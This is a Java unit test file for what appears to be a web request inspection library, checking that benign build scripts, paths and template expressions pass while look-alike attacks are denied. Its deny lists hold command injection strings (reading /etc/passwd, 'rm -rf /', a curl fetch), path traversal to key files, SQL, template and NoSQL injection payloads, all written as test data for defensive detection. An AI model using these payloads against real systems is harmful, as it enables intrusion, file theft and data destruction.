package dev.portcullis.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.Verdict;
import dev.portcullis.http.RecordedWire;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What machines and people send that looks like an attack and is none, at the strict level, and what hides in the like of it. */
class GoodTextsTest {

    private final Inspection strict = new Inspection(Level.STRICT, Exclusions.NONE);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo \"none yet\" && exit 1",
                "rm -rf lib/ dist/ coverage/",
                "rm -rf dist && tsc -p tsconfig.json && cp package.json dist/",
                "cd packages/core && npm ci && npm test",
                "standard/bin/standard lib && node example/basic.js && ./node_modules/mocha/bin/mocha -R dot",
                "../../tsconfig.base.json",
                "../pictures/logo.png",
                "status != 'DONE' && status != 'GONE'",
                "entry.state !== 'NY' && entry.state !== 'NJ'",
                "QRTB-A-1293-#k3",
                "META-INF/versions/11/org/**",
                ">=18 || 16 >=16.14",
                "query Notes {\n  notes {\n    id\n  }\n}",
                "{{ title|striptags|upper }}",
                "{{ price | times: 100 | divided_by: 2 }}",
                "{% if a == b or c == d %}",
                "{{#each notes}}{{@key}}. {{text}} {{/each}}",
                "${sys:LOG_PATTERN}"
            })
    void letsPass(String text) {
        assertThat(strict.look(Place.JSON_VALUE, "extends", text)).isNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo \"none yet\" && id",
                "npm test && cat /etc/passwd",
                "rm -rf dist src",
                "npm test && rm -rf /",
                "npm test && cp ../../../etc/passwd dist/",
                "npm test && curl http://203.0.113.7/x",
                "npm test && node -e 'x()'",
                "npm test && echo `id`",
                "npm test; id",
                "npm test\nid",
                "../../../tsconfig.base.json",
                "../keys/server.pem",
                "x' != 'a' && 'b' != 'c",
                "1 != 2 && 3 != 4",
                "state != 'a' || 1 == 1 --",
                "1-#x",
                "x/**/or/**/1=1/*",
                "{{ title|attr('__class__') }}",
                "{{ config|upper }}",
                "{{ title.__class__|upper }}",
                "{{ ['id']|map('system')|join }}",
                "{{ '/etc/hosts'|file_excerpt(1,30) }}",
                "{% if cycler.x == b %}"
            })
    void deniesWhatHidesInTheLikeOfIt(String text) {
        assertThat(strict.look(Place.JSON_VALUE, "extends", text)).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"page", "file", "template"})
    void aPictureFurtherUpIsDeniedWhereTheMemberNamesAFile(String member) {
        assertThat(strict.look(Place.JSON_VALUE, member, "../pictures/logo.png"))
                .isNotNull();
    }

    private static Verdict check(String body) {
        var wire = RecordedWire.of("POST", "/shop/_find")
                .with("Content-Type", "application/json")
                .with("Content-Length", String.valueOf(body.length()))
                .body(body);
        return Attacks.builder().build().check(wire.view());
    }

    @Test
    void letsASelectorOfADocumentStoreCompare() {
        assertThat(check("""
                {"selector": {"$and": [{"title": "Rain"}, {"year": {"$in": [1984, 1991]}}]}, "fields": ["year"]}""")).isInstanceOf(Verdict.Pass.class);
        assertThat(check("""
                {"selector": {"_id": {"$gt": null}, "kinds": {"$all": ["a", "b"]}}}""")).isInstanceOf(Verdict.Pass.class);
        assertThat(check("""
                {"filter": {"$or": [{"a": 1}, {"b": 2}]}}""")).isInstanceOf(Verdict.Pass.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"selector\": {\"_id\": {\"$gt\": null}}}",
                "{\"selector\": {\"a\": 1, \"$where\": \"sleep(1)\"}}",
                "{\"selector\": {\"a\": 1, \"password\": {\"$gt\": \"\"}}}",
                "{\"selector\": {\"a\": 1, \"b\": {\"$regex\": \"^a\"}}}",
                "{\"filter\": {\"$or\": [{}, {\"b\": 2}]}}",
                "{\"filter\": {\"$or\": [{\"a\": {\"$ne\": 1}}]}}",
                "{\"user\": {\"$or\": [{\"a\": 1}, {\"b\": 2}]}}",
                "{\"$or\": [{\"a\": 1}, {\"b\": 2}]}"
            })
    void deniesOperatorsWhereNoSelectorIs(String body) {
        assertThat(check(body)).isInstanceOf(Verdict.Deny.class);
    }
}
